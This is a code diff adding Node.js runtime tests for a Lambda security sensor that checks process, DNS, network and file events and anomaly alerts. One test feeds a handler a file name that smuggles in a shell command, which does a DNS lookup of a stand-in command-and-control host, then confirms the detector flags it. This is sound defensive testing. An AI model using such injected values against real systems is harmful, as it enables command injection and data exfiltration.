@@ -98,13 +98,62 @@ pub fn standin_env(
     env: &[(&str, &str)],
 ) -> Run {
     need_awslambdaric();
+    standin_runtime(dir, function, handler, timeout_s, plan, env, None)
+}
+
+/// AWS's Node.js runtime client (aws-lambda-ric), installed outside the
+/// repository by `infra/local/lambda/node-ric.sh` (when missing, now).
+fn node_ric() -> String {
+    let out = Command::new("bash")
+        .arg(root().join("infra/local/lambda/node-ric.sh"))
+        .arg("path")
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "AWS's Node.js runtime client is missing and did not install: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout).trim().to_string()
+}
+
+/// [`standin`] with AWS's Node.js runtime running `node_app.<handler>`.
+pub fn standin_node(
+    dir: &Path,
+    function: &str,
+    handler: &str,
+    timeout_s: f64,
+    plan: &[Value],
+) -> Run {
+    let ric = node_ric();
+    standin_runtime(dir, function, handler, timeout_s, plan, &[], Some(&ric))
+}
+
+fn standin_runtime(
+    dir: &Path,
+    function: &str,
+    handler: &str,
+    timeout_s: f64,
+    plan: &[Value],
+    env: &[(&str, &str)],
+    node_ric: Option<&str>,
+) -> Run {
+    let module = if node_ric.is_some() {
+        "node_app"
+    } else {
+        "app"
+    };
     let work = dir.join(format!("work-{function}"));
     std::fs::create_dir_all(&work).unwrap();
     let plan_path = work.join("plan.json");
     std::fs::write(&plan_path, serde_json::to_vec(plan).unwrap()).unwrap();
     let results = work.join("results.jsonl");
-    let out = Command::new(python())
-        .arg(root().join("infra/local/lambda/standin.py"))
+    let mut cmd = Command::new(python());
+    cmd.arg(root().join("infra/local/lambda/standin.py"));
+    if let Some(ric) = node_ric {
+        cmd.args(["--node-ric", ric]);
+    }
+    let out = cmd
         .args(["--plan", plan_path.to_str().unwrap()])
         .args(["--results", results.to_str().unwrap()])
         .args(["--extension", sensor_bin().to_str().unwrap()])
@@ -112,7 +161,7 @@ pub fn standin_env(
             "--task-dir",
             root().join("tests/e2e/sensor_handlers").to_str().unwrap(),
         ])
-        .args(["--handler", &format!("app.{handler}")])
+        .args(["--handler", &format!("{module}.{handler}")])
         .args([
             "--wrapper",
             root()
@@ -655,6 +704,12 @@ fn sensor_package_builds_the_layer_zip() {
         "{v}"
     );
     assert!(v.get("fnwatch/python/sitecustomize.py").is_some(), "{v}");
+    let node_hook = std::fs::read(root().join("sensor/hooks/node/fnwatch_hook.cjs")).unwrap();
+    assert_eq!(
+        v["fnwatch/node/fnwatch_hook.cjs"],
+        json!(["0o644", node_hook.len()]),
+        "{v}"
+    );
     // The same inputs give the same bytes (the same layer hash in Lambda).
     let first = std::fs::read(&zip).unwrap();
     fnwatch(&[
@@ -689,4 +744,222 @@ fn sensor_package_builds_the_layer_zip() {
         r.stderr
     );
     assert!(!out2.join("fnwatch-sensor-layer.zip").exists());
+}
+
+// ---- Node.js: AWS's runtime client (aws-lambda-ric) with the Node.js hook ----
+
+#[test]
+fn node_benign_invocations_arrive_with_their_request_ids_and_cpu() {
+    let dir = tempfile::tempdir().unwrap();
+    let port = http_server();
+    let tmp = dir.path().join("carts.json");
+    let burns = [0, 15, 40];
+    let plan: Vec<Value> = (0..12)
+        .map(|i| {
+            json!({"label": format!("b{i}"), "invoke": {
+                "url": format!("http://localhost:{port}/carts/{i}"),
+                "tmp": tmp.to_str().unwrap(),
+                "burn_ms": burns[i % burns.len()],
+            }})
+        })
+        .collect();
+    let run = standin_node(dir.path(), "carts-api", "benign", 10.0, &plan);
+    let invs = run.invocations();
+    assert_eq!(invs.len(), 12, "{:?}", run.results);
+    for (i, r) in invs.iter().enumerate() {
+        assert_eq!(r["status"], "success", "{r}");
+        let rid = r["request_id"].as_str().unwrap();
+        assert_eq!(
+            r["response"]["request_id"], rid,
+            "the handler saw the same request id"
+        );
+        let e = run.invocation_event(rid);
+        assert_eq!(e["function"], "carts-api");
+        assert_eq!(e["status"], "success");
+        assert_eq!(e["account"], "123456789012");
+        // The sample of the triggering event, from the runtime client's own
+        // read of the Runtime API.
+        assert_eq!(e["trigger"], "direct", "{e}");
+        assert!(
+            e["event"]
+                .as_str()
+                .is_some_and(|s| s.contains(&format!("/carts/{i}"))),
+            "{e}"
+        );
+        assert_eq!(
+            e["init_ms"].is_null(),
+            i != 0,
+            "only the cold start has init_ms: {e}"
+        );
+        let measured = r["response"]["cpu_ms"].as_f64().unwrap();
+        let cpu = e["cpu_ms"]
+            .as_f64()
+            .unwrap_or_else(|| panic!("no cpu_ms: {e}"));
+        // The extension sees the whole runtime (its event loop, the response
+        // post); the handler only its own part.
+        let diff = cpu - measured;
+        assert!(
+            (-4.0..=15.0).contains(&diff),
+            "invocation {i}: the sensor says {cpu} ms of CPU, the handler measured {measured} ms"
+        );
+        let dns = run.events_of("dns", rid);
+        assert!(
+            dns.iter().any(|d| d["query"] == "localhost"
+                && d["rcode"] == "NOERROR"
+                && d["answers"].as_array().is_some_and(|a| !a.is_empty())),
+            "{dns:?}"
+        );
+        let net = run.events_of("network", rid);
+        assert!(
+            net.iter().any(|n| n["remote_port"] == port
+                && n["remote_host"] == "localhost"
+                && n["protocol"] == "tcp"),
+            "{net:?}"
+        );
+        let files: HashSet<&str> = run
+            .events_of("file", rid)
+            .iter()
+            .filter(|f| f["path"] == tmp.to_str().unwrap())
+            .map(|f| f["op"].as_str().unwrap())
+            .collect();
+        assert!(
+            files.contains("read") && (files.contains("write") || files.contains("create")),
+            "{files:?}"
+        );
+    }
+    // No file event for the code bundle, the runtime client or Node's own
+    // files, no connection to the Runtime API.
+    for e in &run.events {
+        if e["type"] == "file" {
+            let p = e["path"].as_str().unwrap();
+            assert!(
+                !p.contains("sensor_handlers") && !p.contains("node_modules"),
+                "{e}"
+            );
+        }
+        if e["type"] == "network" {
+            assert_eq!(e["remote_port"], port, "{e}");
+        }
+    }
+    let last = run.invocation_event(invs[11]["request_id"].as_str().unwrap());
+    assert_eq!(last["sensor"]["hook_dropped"], 0, "{last}");
+    assert_eq!(last["sensor"]["rejected_messages"], 0, "{last}");
+    let lake = dir.path().join("lake");
+    fnwatch(&[
+        "ingest",
+        "--lake",
+        lake.to_str().unwrap(),
+        run.stdout.to_str().unwrap(),
+    ])
+    .ok();
+    assert_eq!(
+        query(&lake, "SELECT count(*) AS n FROM dead_letters")[0]["n"],
+        0
+    );
+    assert_eq!(
+        query(
+            &lake,
+            "SELECT count(DISTINCT request_id) AS n FROM invocations WHERE cpu_ms IS NOT NULL"
+        )[0]["n"],
+        12
+    );
+}
+
+#[test]
+fn node_command_injection_is_flagged_by_detect() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path().to_path_buf();
+    let start = now_rfc3339();
+    let mut plan: Vec<Value> = (0..40)
+        .map(|i| json!({"label": "train", "invoke": {"file": format!("avatar-{i}.png")}}))
+        .collect();
+    plan.push(json!({"sleep_ms": 1500}));
+    for i in 0..5 {
+        plan.push(json!({"label": "test", "invoke": {"file": format!("banner-{i}.png")}}));
+    }
+    plan.push(json!({"label": "attack", "invoke": {
+        "file": "x.png; node -e \"require('dns').lookup('c2.k7q9-exfil.invalid', () => {})\"; #"
+    }}));
+    let run = standin_node(&d, "avatar-resizer", "thumbnail", 10.0, &plan);
+    let end = now_rfc3339();
+    let invs = run.invocations();
+    assert!(invs.iter().all(|r| r["status"] == "success"), "{invs:?}");
+    let attack = invs.iter().find(|r| r["label"] == "attack").unwrap()["request_id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let first_test = invs.iter().find(|r| r["label"] == "test").unwrap()["request_id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let split = run.invocation_event(&first_test)["time"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let split = (chrono::DateTime::parse_from_rfc3339(&split).unwrap()
+        - chrono::Duration::milliseconds(500))
+    .to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
+    // The shell the handler started, with the injected command, and the
+    // lookup made by the node process the injection ran (the preload is in
+    // NODE_OPTIONS, so it is hooked too), both stamped with the request id.
+    let procs = run.events_of("process", &attack);
+    assert!(
+        procs.iter().any(|p| p["exe"] == "/bin/sh"
+            && p["args"][2]
+                .as_str()
+                .is_some_and(|c| c.contains("c2.k7q9-exfil.invalid"))),
+        "{procs:?}"
+    );
+    assert!(
+        run.events_of("dns", &attack)
+            .iter()
+            .any(|d| d["query"] == "c2.k7q9-exfil.invalid" && d["rcode"] == "NXDOMAIN"),
+        "{:?}",
+        run.events_of("dns", &attack)
+    );
+    // The node process the injection started did not announce itself as the
+    // runtime (whose CPU the extension reads): one runtime pid in the log.
+    let pids: HashSet<&str> = run
+        .stderr
+        .lines()
+        .filter(|l| l.contains("a runtime hook started"))
+        .filter_map(|l| l.split("pid=").nth(1))
+        .filter_map(|t| t.split_whitespace().next())
+        .collect();
+    assert_eq!(pids.len(), 1, "{}", run.stderr);
+    assert!(run.invocation_event(&attack)["cpu_ms"].as_f64().unwrap() > 0.0);
+
+    let lake = d.join("lake");
+    fnwatch(&[
+        "ingest",
+        "--lake",
+        lake.to_str().unwrap(),
+        run.stdout.to_str().unwrap(),
+    ])
+    .ok();
+    assert_eq!(
+        query(&lake, "SELECT count(*) AS n FROM dead_letters")[0]["n"],
+        0
+    );
+    fnwatch(&[
+        "train",
+        "--lake",
+        lake.to_str().unwrap(),
+        "--from",
+        &start,
+        "--to",
+        &split,
+    ])
+    .ok();
+    let alerts = alerts_of(&lake, &split, &end, &d);
+    let flagged: HashSet<&str> = alerts
+        .iter()
+        .filter(|a| ["medium", "high", "critical"].contains(&a["severity"].as_str().unwrap_or("")))
+        .map(|a| a["request_id"].as_str().unwrap_or("-"))
+        .collect();
+    assert_eq!(
+        flagged,
+        HashSet::from([attack.as_str()]),
+        "alerts: {alerts:#?}"
+    );
 }
